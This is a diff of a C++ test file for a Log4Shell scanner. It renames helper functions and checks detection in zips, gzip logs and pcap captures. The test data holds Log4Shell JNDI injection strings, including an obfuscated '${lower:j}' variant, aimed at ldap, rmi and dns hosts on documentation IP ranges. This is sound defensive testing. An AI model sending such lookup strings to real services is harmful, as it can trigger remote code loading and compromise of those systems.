@@ -15,45 +15,45 @@ namespace {
 namespace fs = std::filesystem;
 namespace testzip = remediate::testzip;
 
-std::string Scratch(const std::string& name) {
+std::string scratch(const std::string& name) {
   fs::path dir = fs::path(L4S_TEST_TMP) / "hunt_input_test";
   fs::create_directories(dir);
   return (dir / name).string();
 }
 
-std::string WriteFile(const std::string& name, const std::string& bytes) {
-  std::string path = Scratch(name);
+std::string write_file(const std::string& name, const std::string& bytes) {
+  std::string path = scratch(name);
   std::ofstream(path, std::ios::binary) << bytes;
   return path;
 }
 
-std::string ReadFile(const std::string& path) {
+std::string read_file(const std::string& path) {
   std::ifstream in(path, std::ios::binary);
   std::stringstream s;
   s << in.rdbuf();
   return s.str();
 }
 
-std::string Gzip(const std::string& text) {
-  std::string path = WriteFile("gzip-input", text);
+std::string gzip(const std::string& text) {
+  std::string path = write_file("gzip-input", text);
   EXPECT_EQ(std::system(("gzip -f -n '" + path + "'").c_str()), 0);
-  return ReadFile(path + ".gz");
+  return read_file(path + ".gz");
 }
 
-void PutLe32(std::string* s, uint32_t v) {
+void put_le32(std::string* s, uint32_t v) {
   for (int i = 0; i < 4; ++i) s->push_back(static_cast<char>(v >> (8 * i)));
 }
 
 // A classic little-endian pcap of one Ethernet frame: an HTTP request whose
 // User-Agent carries `payload`.
-std::string Capture(const std::string& payload) {
+std::string capture(const std::string& payload) {
   std::string frame = pcap::testing::Ether(pcap::testing::Ipv4(
       "203.0.113.5", "10.0.0.10", pcap::kProtoTcp,
       pcap::testing::Tcp(40000, 80, 1, pcap::kTcpAck, "GET / HTTP/1.1\r\nUser-Agent: " + payload + "\r\n\r\n")));
   std::string out;
-  for (uint32_t v : {0xa1b2c3d4u, 0x00040002u, 0u, 0u, 65535u, 1u}) PutLe32(&out, v);  // 2.4, DLT_EN10MB
+  for (uint32_t v : {0xa1b2c3d4u, 0x00040002u, 0u, 0u, 65535u, 1u}) put_le32(&out, v);  // 2.4, DLT_EN10MB
   for (uint32_t v : {1639497829u, 0u, static_cast<uint32_t>(frame.size()), static_cast<uint32_t>(frame.size())})
-    PutLe32(&out, v);
+    put_le32(&out, v);
   return out + frame;
 }
 
@@ -62,7 +62,7 @@ struct Hunted {
   std::vector<hunt::Detection> detections;
 };
 
-Hunted Hunt(const std::string& path, const InputOptions& options = {}) {
+Hunted hunt(const std::string& path, const InputOptions& options = {}) {
   Hunted h;
   h.result = hunt_input(path, options, [&](hunt::Detection&& d) { h.detections.push_back(std::move(d)); });
   return h;
@@ -74,7 +74,7 @@ std::string Names(const std::vector<hunt::FileHunt>& logs) {
   return s;
 }
 
-std::string Errors(const std::vector<hunt::HuntError>& errors) {
+std::string errors(const std::vector<hunt::HuntError>& errors) {
   std::string s;
   for (const hunt::HuntError& e : errors) s += e.file + ": " + e.reason + "\n";
   return s;
@@ -84,11 +84,11 @@ TEST(HuntInput, EveryZipMemberIsHuntedUnderItsOwnName) {
   testzip::Spec spec;
   spec.entries = {{"logs/", "", 0},
                   {"logs/app.log", "10:00 INFO start\n10:01 WARN ua=${jndi:ldap://203.0.113.7:1389/a}\n"},
-                  {"logs/old.log.gz", Gzip("x\ny\n${${lower:j}ndi:rmi://203.0.113.8/b}\n"), 0},
+                  {"logs/old.log.gz", gzip("x\ny\n${${lower:j}ndi:rmi://203.0.113.8/b}\n"), 0},
                   {"clean.txt", "nothing ${here}\n"}};
-  std::string zip = WriteFile("logs.zip", testzip::build(spec));
-  Hunted h = Hunt(zip);
-  EXPECT_EQ(Errors(h.result.errors), "");
+  std::string zip = write_file("logs.zip", testzip::build(spec));
+  Hunted h = hunt(zip);
+  EXPECT_EQ(errors(h.result.errors), "");
   EXPECT_EQ(Names(h.result.logs), zip + "!/logs/app.log\n" + zip + "!/logs/old.log.gz\n" + zip + "!/clean.txt\n");
   ASSERT_EQ(h.detections.size(), 2u);
   EXPECT_EQ(h.detections[0].file, zip + "!/logs/app.log");
@@ -104,14 +104,14 @@ TEST(HuntInput, EveryZipMemberIsHuntedUnderItsOwnName) {
 }
 
 TEST(HuntInput, CapturesAndZipsInsideZips) {
-  const std::string pcap = Capture("${jndi:ldap://198.51.100.9:1389/a}");
+  const std::string pcap = capture("${jndi:ldap://198.51.100.9:1389/a}");
   testzip::Spec inner;
   inner.entries = {{"trace.pcap", pcap}, {"note.txt", "${jndi:dns://198.51.100.10/x}\n"}};
   testzip::Spec outer;
   outer.entries = {{"deflated.zip", testzip::build(inner)}, {"stored.zip", testzip::build(inner), 0}};
-  std::string zip = WriteFile("outer.zip", testzip::build(outer));
-  Hunted h = Hunt(zip);
-  EXPECT_EQ(Errors(h.result.errors), "");
+  std::string zip = write_file("outer.zip", testzip::build(outer));
+  Hunted h = hunt(zip);
+  EXPECT_EQ(errors(h.result.errors), "");
   ASSERT_EQ(h.result.captures.size(), 2u);
   for (size_t i = 0; i < 2; ++i) {
     const std::string member = zip + (i == 0 ? "!/deflated.zip" : "!/stored.zip");
@@ -134,8 +134,8 @@ TEST(HuntInput, CapturesAndZipsInsideZips) {
 
   InputOptions shallow;
   shallow.max_zip_depth = 1;
-  Hunted flat = Hunt(zip, shallow);
-  EXPECT_EQ(Errors(flat.result.errors),
+  Hunted flat = hunt(zip, shallow);
+  EXPECT_EQ(errors(flat.result.errors),
             zip + "!/deflated.zip: zip nested deeper than 1\n" + zip + "!/stored.zip: zip nested deeper than 1\n");
   EXPECT_TRUE(flat.detections.empty());
 }
@@ -149,33 +149,33 @@ TEST(HuntInput, DamagedMembersAreErrorsAndTheRestIsStillHunted) {
   size_t central = bytes.find("PK\x01\x02");
   ASSERT_NE(central, std::string::npos);
   bytes[central + 16] ^= 1;  // the first entry's CRC
-  std::string zip = WriteFile("damaged.zip", bytes);
-  Hunted h = Hunt(zip);
-  EXPECT_EQ(Errors(h.result.errors), zip + "!/packed.log: unsupported compression method 12\n" + zip +
+  std::string zip = write_file("damaged.zip", bytes);
+  Hunted h = hunt(zip);
+  EXPECT_EQ(errors(h.result.errors), zip + "!/packed.log: unsupported compression method 12\n" + zip +
                                          "!/secret.log: entry is encrypted\n");
   // The damaged member's text was searched before its CRC failed at the end.
   EXPECT_EQ(Names(h.result.logs), zip + "!/bad-crc.log (CRC mismatch)\n" + zip + "!/good.log\n");
   ASSERT_EQ(h.detections.size(), 2u);
   EXPECT_EQ(h.detections[1].file, zip + "!/good.log");
 
-  std::string corrupt = WriteFile("corrupt.zip", "PK\x03\x04 not really a zip\n${jndi:ldap://203.0.113.3/c}\n");
-  Hunted c = Hunt(corrupt);
+  std::string corrupt = write_file("corrupt.zip", "PK\x03\x04 not really a zip\n${jndi:ldap://203.0.113.3/c}\n");
+  Hunted c = hunt(corrupt);
   ASSERT_EQ(c.result.errors.size(), 1u);
   EXPECT_EQ(c.result.errors[0].file, corrupt);
   EXPECT_EQ(c.result.errors[0].reason.rfind("not a readable zip: ", 0), 0u) << c.result.errors[0].reason;
 }
 
 TEST(HuntInput, LogsAndCapturesOutsideZipsAreReadAsBefore) {
-  std::string log = WriteFile("plain.log", "a\n${jndi:ldap://203.0.113.4/d}\n");
-  Hunted l = Hunt(log);
+  std::string log = write_file("plain.log", "a\n${jndi:ldap://203.0.113.4/d}\n");
+  Hunted l = hunt(log);
   ASSERT_EQ(l.result.logs.size(), 1u);
   EXPECT_EQ(l.result.logs[0].file, log);
   ASSERT_EQ(l.detections.size(), 1u);
   EXPECT_EQ(l.detections[0].line, 2u);
 
-  std::string pcap = Capture("${jndi:ldap://198.51.100.9:1389/a}");
-  std::string cap = WriteFile("trace.bin", pcap);
-  Hunted c = Hunt(cap);
+  std::string pcap = capture("${jndi:ldap://198.51.100.9:1389/a}");
+  std::string cap = write_file("trace.bin", pcap);
+  Hunted c = hunt(cap);
   ASSERT_EQ(c.result.captures.size(), 1u);
   EXPECT_EQ(c.result.captures[0].result.path, cap);
   EXPECT_EQ(c.result.captures[0].bytes, pcap.size());
@@ -184,7 +184,7 @@ TEST(HuntInput, LogsAndCapturesOutsideZipsAreReadAsBefore) {
   // --pcap: a file that is not a capture is an error of the capture reader.
   InputOptions forced;
   forced.force_capture = true;
-  Hunted f = Hunt(log, forced);
+  Hunted f = hunt(log, forced);
   ASSERT_EQ(f.result.captures.size(), 1u);
   EXPECT_FALSE(f.result.captures[0].result.errors.empty());
   EXPECT_TRUE(f.result.logs.empty());
